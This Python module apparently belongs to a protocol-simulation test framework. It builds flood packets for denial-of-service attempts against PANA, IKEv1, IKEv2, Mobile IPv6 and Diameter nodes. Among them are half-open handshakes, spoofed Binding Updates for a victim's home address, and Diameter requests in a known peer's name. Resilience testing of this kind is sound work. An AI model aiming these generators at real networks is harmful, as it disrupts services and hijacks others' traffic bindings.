"""What hosts without credentials send to use a node up: packets alone, no sockets and no clock.

An attack is a number of attempts. Each begins with one packet, made before the flood begins; what
comes back may draw another one. No attempt is ever brought to its end, and nothing is sent again.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from ipaddress import IPv6Address, IPv6Network
from typing import Protocol

from agents.core.machine import PeerError
from agents.core.reader import Reader, WireError
from agents.core.record import replace
from agents.crypto import dh
from agents.diameter.capabilities import capabilities_request
from agents.diameter.config import PORT as DIAMETER_PORT
from agents.diameter.config import NodeConfig
from agents.eap.lower import EapKeysLike, identity_response
from agents.ike.constants import PORT as IKE_PORT
from agents.ike.identities import Identity
from agents.ikev1.config import Config as IkeV1Config
from agents.ikev1.ikev1 import Ikev1
from agents.ikev1.wire import COOKIE_LENGTH, NO_COOKIE
from agents.ikev2 import wire as ikev2
from agents.ikev2.addresses import request_payload
from agents.ikev2.child import TRANSPORT
from agents.ikev2.config import Config as IkeV2Config
from agents.ikev2.constants import ExchangeType, NotifyType, PayloadType
from agents.ikev2.grammar import Contents
from agents.ikev2.ike_sa_manager import NONCE_LENGTH
from agents.ikev2.keys import IkeKeys
from agents.ikev2.payloads import (
    KeyExchange,
    Notification,
    SecurityAssociation,
    TrafficSelector,
    encode_selectors,
)
from agents.ikev2.proposals import accept_ike, offer_esp, offer_ike
from agents.ikev2.sealing import Sealer
from agents.mip6.codec import PROTOCOL as MOBILITY_HEADER
from agents.mip6.codec import BindingAck, BindingUpdate, checksum, decode, encode
from agents.pana.config import PacConfig
from agents.pana.dialect import PORT as PANA_PORT
from agents.pana.dialect import Dialect
from agents.pana.pac import Pac

_IDENTITY = 1
_DESTINATION_OPTIONS, _ROUTING, _HOP_LIMIT = 60, 43, 64
_HOME_ADDRESS_OPTION = 0xC9
_LIFETIME = 420


class Attack(Protocol):
    """One way to flood a node; `port` is the node's own, 0 where the protocol has none."""

    port: int

    def open(self, number: int) -> bytes:
        """Return the packet with which an attempt begins."""

    def answer(self, number: int, data: bytes) -> bytes | None:
        """Return what an attempt sends on an answer, None if that is nothing."""


@dataclass
class _Mute:
    """An EAP peer that tells its identity at most."""

    identity: str | None = None
    outcome: str | None = None
    reason: str = ""
    keys: EapKeysLike | None = None
    early_keys: EapKeysLike | None = None

    def handle_request(self, packet: bytes) -> bytes | None:
        """Answer a request for the identity."""
        if self.identity is None or packet[4:5] != bytes([_IDENTITY]):
            return None
        response = identity_response(self.identity)
        return response[:1] + packet[1:2] + response[2:]


@dataclass
class PanaInitiation:
    """PANA-Client-Initiations, each from a port of its own (RFC 5191 section 4.1).

    With `starts` their start requests are answered too, which proves that the address is the
    sender's own. With an `identity` EAP goes on until the PAA has asked the home AAA server.
    """

    paa: IPv6Address
    dialect: Dialect
    rng: random.Random
    starts: bool = False
    identity: str | None = None
    port: int = PANA_PORT
    _clients: dict[int, Pac] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self._initiation = self._client().outbox[0][0]

    def _client(self) -> Pac:
        eap = _Mute(self.identity)
        config = PacConfig(dialect=self.dialect)
        client = Pac((str(self.paa), PANA_PORT), eap, config, rng=self.rng)
        client.start(0.0)
        return client

    def open(self, number: int) -> bytes:  # noqa: ARG002
        """Return a PCI: all are the same."""
        return self._initiation

    def answer(self, number: int, data: bytes) -> bytes | None:
        """Return the answer to a start request, and to one for the identity."""
        if not self.starts:
            return None
        client = self._clients.get(number)
        if client is None:
            client = self._clients[number] = self._client()
        client.outbox.clear()
        client.handle_message(data, (str(self.paa), PANA_PORT), 0.0)
        return client.outbox[0][0] if client.outbox else None


class Ikev1Main:
    """Messages 1 and 3 of main mode, but never 5 (RFC 2409 section 5.4).

    One machine makes both; attempts differ by their cookies.
    """

    port = IKE_PORT

    def __init__(
        self, responder: IPv6Address, own: IPv6Address, config: IkeV1Config, rng: random.Random
    ) -> None:
        self._responder = responder
        self._machine = Ikev1(rng=rng, local=own, config=config)
        self._machine.add_psk(rng.randbytes(32), peer=responder)
        self._machine.initiate(responder, None, 0.0)
        self._first = self._machine.outbox.popleft()[0]
        self._third = b""
        self._cookies = rng.randbytes(COOKIE_LENGTH // 2)
        self._answered: set[int] = set()

    def open(self, number: int) -> bytes:
        """Return message 1."""
        cookie = self._cookies + number.to_bytes(COOKIE_LENGTH // 2)
        return cookie + self._first[COOKIE_LENGTH:]

    def answer(self, number: int, data: bytes) -> bytes | None:
        """Return message 3 on message 2."""
        cookies = data[: 2 * COOKIE_LENGTH]
        if number in self._answered or cookies[COOKIE_LENGTH:] in (b"", NO_COOKIE):
            return None
        if not self._third:
            own = self._first[:COOKIE_LENGTH] + data[COOKIE_LENGTH:]
            self._machine.handle_message(own, (str(self._responder), IKE_PORT), 0.0)
            if not self._machine.outbox:
                return None
            self._third = self._machine.outbox.popleft()[0][2 * COOKIE_LENGTH :]
        self._answered.add(number)
        return cookies + self._third


class Ikev2Init:
    """IKE_SA_INIT requests, again with the cookie if one is asked for (RFC 7296 section 2.6).

    Attempts differ by their SPIs; one key pair and one nonce are enough.
    """

    port = IKE_PORT

    def __init__(self, config: IkeV2Config, rng: random.Random) -> None:
        self._config, self._rng = config, rng
        group = config.proposals[0].group
        self._pair, self._nonce = dh.generate(group, rng), rng.randbytes(NONCE_LENGTH)
        self._payloads = [
            ikev2.Payload(PayloadType.SA, offer_ike(config.proposals).encode()),
            ikev2.Payload(PayloadType.KE, KeyExchange(group, self._pair.public).encode()),
            ikev2.Payload(PayloadType.NONCE, self._nonce),
        ]
        self._spis = rng.randbytes(ikev2.SPI_LENGTH // 2)

    def open(self, number: int, cookie: bytes = b"") -> bytes:
        """Return an IKE_SA_INIT request."""
        spi = self._spis + number.to_bytes(ikev2.SPI_LENGTH // 2)
        header = ikev2.Header(
            spi, ikev2.NO_SPI, ExchangeType.IKE_SA_INIT, 0, initiator=True, response=False
        )
        first = [Notification(NotifyType.COOKIE, cookie).payload()] if cookie else []
        return ikev2.encode_plain(header, [*first, *self._payloads])

    def answer(self, number: int, data: bytes) -> bytes | None:
        """Return the request with the cookie that the responder asks for."""
        try:
            message = ikev2.split_datagram(data)
            if message.header.exchange != ExchangeType.IKE_SA_INIT:
                return None
            contents = Contents.of(ikev2.decode_chain(message.first, message.body))
            cookie = contents.note(NotifyType.COOKIE)
            if cookie is not None and cookie.data:
                return self.open(number, cookie.data)
            return self._go_on(message.header, contents)
        except (WireError, PeerError):
            return None

    def _go_on(self, header: ikev2.Header, contents: Contents) -> bytes | None:  # noqa: ARG002
        return None


class Ikev2Auth(Ikev2Init):
    """IKE_SA_INIT, and the first IKE_AUTH of EAP in a subscriber's name (RFC 7296 section 2.16).

    What follows is not answered, so that the responder waits in the midst of EAP.
    """

    def __init__(self, responder: IPv6Address, config: IkeV2Config, rng: random.Random) -> None:
        super().__init__(config, rng)
        here = encode_selectors((TrafficSelector.anywhere(MOBILITY_HEADER),))
        there = encode_selectors((TrafficSelector.of(responder, MOBILITY_HEADER),))
        self._requests = [
            ikev2.Payload(PayloadType.ID_I, Identity.of(config.identity or "").encode()),
            request_payload(),
            TRANSPORT.payload(),
            ikev2.Payload(PayloadType.SA, offer_esp(config.esp_proposals, 0x1000, None).encode()),
            ikev2.Payload(PayloadType.TS_I, here),
            ikev2.Payload(PayloadType.TS_R, there),
        ]

    def _go_on(self, header: ikev2.Header, contents: Contents) -> bytes | None:
        """Return IKE_AUTH on the response to IKE_SA_INIT."""
        answered = SecurityAssociation.decode(contents.get(PayloadType.SA))
        proposal, _ = accept_ike(answered, self._config.proposals)
        shared = self._pair.shared(KeyExchange.decode(contents.get(PayloadType.KE)).public)
        nonces = self._nonce, contents.get(PayloadType.NONCE)
        keys = IkeKeys.derive(proposal, shared, nonces, (header.spi_i, header.spi_r))
        sealer = Sealer(proposal, keys, self._rng, initiator=True)
        request = replace(
            header, exchange=ExchangeType.IKE_AUTH, message_id=1, initiator=True, response=False
        )
        return sealer.seal(request, self._requests)


@dataclass
class BindingUpdates:
    """Binding Updates in clear, each for another home address (RFC 6275 section 6.3).

    They are whole IPv6 packets. The first is for `victim`, the others for addresses of `prefix`.
    """

    home_agent: IPv6Address
    own: IPv6Address
    victim: IPv6Address
    prefix: IPv6Network
    port: int = 0

    def open(self, number: int) -> bytes:
        """Return a Binding Update."""
        home_address = self.prefix.network_address + (0xBAD0000 + number) if number else self.victim
        return binding_update(self.own, home_address, self.home_agent)

    def answer(self, number: int, data: bytes) -> bytes | None:  # noqa: ARG002
        """Return nothing."""
        return None


def binding_update(care_of: IPv6Address, home_address: IPv6Address, to: IPv6Address) -> bytes:
    """Return an IPv6 packet: Home Address option and Binding Update, without ESP."""
    header = encode(BindingUpdate(1, _LIFETIME, care_of=care_of))
    header = header[:4] + checksum(home_address, to, header).to_bytes(2) + header[6:]
    padding = bytes((1, 2, 0, 0))  # The option starts at 8n+6.
    option = bytes((_HOME_ADDRESS_OPTION, 16)) + home_address.packed
    options = bytes((MOBILITY_HEADER, 2)) + padding + option
    payload = options + header
    start = (6 << 28).to_bytes(4) + len(payload).to_bytes(2)
    start += bytes((_DESTINATION_OPTIONS, _HOP_LIMIT))
    return start + care_of.packed + to.packed + payload


def acknowledged(packet: bytes) -> int | None:
    """Return the status in an IPv6 packet's Binding Acknowledgement, None if it has none.

    A type 2 routing header may be in front of it.
    """
    r = Reader(packet)
    try:
        r.take(6)
        following = r.u8()
        r.take(33)
        if following == _ROUTING:
            following, length = r.u8(), r.u8()
            r.take(6 + 8 * length)
        message = decode(r.rest()) if following == MOBILITY_HEADER else None
    except WireError:
        return None
    return message.status if isinstance(message, BindingAck) else None


@dataclass
class DiameterConnections:
    """TCP connections: every other one says nothing, the rest send a CER in a known peer's name.

    An empty packet stands for a connection that says nothing.
    """

    own: IPv6Address
    host: str
    realm: str
    port: int = DIAMETER_PORT

    def open(self, number: int) -> bytes:
        """Return a CER or nothing."""
        if number % 2:
            return b""
        return capabilities_request(NodeConfig(self.host, self.realm), self.own).encode()

    def answer(self, number: int, data: bytes) -> bytes | None:  # noqa: ARG002
        """Return nothing."""
        return None
